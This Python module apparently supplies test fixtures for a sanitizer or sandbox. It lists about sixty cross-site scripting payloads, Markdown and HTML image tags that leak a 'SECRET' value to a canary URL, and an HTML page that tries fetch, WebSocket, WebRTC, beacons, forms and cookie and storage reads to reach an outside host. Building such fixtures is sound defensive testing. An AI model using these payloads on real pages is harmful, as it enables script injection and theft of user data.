"""Attack payloads: cross-site scripting in sixty variants, and images that would exfiltrate data."""

RUN = "window.pwned=1"
SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'",
    f"<img/src/onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x>",
    f'<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>x</text></a></svg>',
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f'<math href="javascript:{RUN}">x</math>',
    f"<body onload={RUN}>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f'<isindex action="javascript:{RUN}">',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f'<base href="javascript:{RUN}//">',
    f'<link rel=stylesheet href="javascript:{RUN}">',
    f"<style>@import 'javascript:{RUN}';</style>",
    f'<div style="background:url(javascript:{RUN})">x</div>',
    f'<div style="width:expression({RUN})">x</div>',
    f'<a href="javascript:{RUN}">x</a>',
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](%6aavascript:{RUN})",
    f"[x](  javascript:{RUN}  )",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    f"[x]: javascript:{RUN}\n\n[x]",
    f"<javascript:{RUN}>",
    f"![x](javascript:{RUN})",
    f'![x"onerror="{RUN}](x)',
    f'![x](x "onerror={RUN}")',
    f'[x](https://example.invalid/"onmouseover="{RUN})',
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><script>{RUN}</script>\nx\n```',
    f"`<img src=x onerror={RUN}>`",
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <script>{RUN}</script> | c |",
    f"# <img src=x onerror={RUN}>",
    f"> <svg onload={RUN}>",
    f"- <script>{RUN}</script>",
    f"</div></article><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;<img src=x onerror={RUN}>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
)


def image_payloads(canary: str) -> tuple[str, ...]:
    """Return Markdown and HTML that would make a page fetch the URL of an attacker."""
    leak = f"{canary}/?d=SECRET"
    return (
        f"![x]({leak}&n=1)",
        f"![x][r]\n\n[r]: {leak}&n=2",
        f"[![x]({leak}&n=3)]({leak}&n=4)",
        f"<img src='{leak}&n=5'>",
        f"<img srcset='{leak}&n=6 1x'>",
        f"<picture><source srcset='{leak}&n=7'><img></picture>",
        f"<svg><image href='{leak}&n=8'/></svg>",
        f"<div style=\"background:url('{leak}&n=9')\">x</div>",
        f"<style>body{{background:url('{leak}&n=10')}}</style>",
        f"<link rel=icon href='{leak}&n=11'>",
        f"<link rel=prefetch href='{leak}&n=12'>",
        f"<video poster='{leak}&n=13'></video>",
        f"<iframe src='{leak}&n=14'></iframe>",
        f"<script src='{leak}&n=15'></script>",
        f"{leak}&n=16",
        f"```css\n@import url('{leak}&n=17');\n```",
    )


ATTACK = """<!doctype html><title>Attack</title><body><output></output>
<img src="URL/image"><script src="URL/script"></script><link rel="stylesheet" href="URL/style">
<link rel="prefetch" href="URL/prefetch"><link rel="preload" as="image" href="URL/preload">
<link rel="dns-prefetch" href="URL"><link rel="preconnect" href="URL">
<style>@import "URL/import"; @font-face { font-family: f; src: url(URL/font) }</style>
<style>p { background: url(URL/background) }</style>
<p style="font-family: f">text</p><iframe src="URL/frame"></iframe><object data="URL/object"></object>
<video src="URL/video" poster="URL/poster"></video>
<script type="speculationrules">{"prefetch": [{"urls": ["URL/speculation"], "eagerness": "immediate"}]}</script>
<script>
  const found = {};
  const attempt = (name, act) => {
    try { found[name] = String(act()) } catch (error) { found[name] = error.name }
  };
  const connect = "const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] });" +
    "peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));";
  const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
  attempt("fetch", () => void fetch("URL/fetch").catch(() => 0));
  attempt("request", () => { const r = new XMLHttpRequest(); r.open("GET", "URL/request"); r.send() });
  attempt("socket", () => void new WebSocket("URL/socket".replace("http", "ws")));
  attempt("events", () => void new EventSource("URL/events"));
  attempt("beacon", () => void navigator.sendBeacon("URL/beacon", "x"));
  attempt("worker", () => void new Worker(URL.createObjectURL(new Blob(["fetch('URL/worker')"]))));
  attempt("rtc", () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }] });
    peer.createDataChannel("x");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  });
  const inner = `<script>${connect}<\\/script>`;
  attempt("rtc in a frame", () => add("iframe", { srcdoc: inner }));
  attempt("rtc in markup", () => { document.querySelector("p").innerHTML = `<iframe srcdoc="${inner}"></iframe>` });
  attempt("rtc in parts", () => { document.write("<ifr"); document.write(`ame srcdoc="${inner}"></iframe>`) });
  attempt("poisoned", () => {
    RegExp.prototype.exec = () => null;
    Array.prototype[Symbol.iterator] = function* () { yield "iframe" };
    add("iframe", { srcdoc: inner });
  });
  attempt("link", () => add("link", { rel: "prefetch", href: "URL/link" }));
  attempt("storage", () => localStorage.length);
  attempt("cookie", () => document.cookie);
  attempt("parent", () => parent.document.title);
  attempt("open", () => window.open("URL/open"));
  attempt("form", () => { add("form", { action: "URL/form" }); document.querySelector("form").submit() });
  attempt("top", () => { top.location = "URL/top" });
  document.querySelector("output").textContent = JSON.stringify(found);
</script>"""
"""A document that tries to send something to `URL`, to `HOST` by WebRTC, and to reach the page around it."""


def attack_document(url: str) -> str:
    return (
        ATTACK.replace("URL.createObjectURL", "window.URL.createObjectURL", 1)
        .replace("URL/", f"{url}/")
        .replace('"URL"', f'"{url}"')
        .replace("HOST", url.removeprefix("http://"))
    )
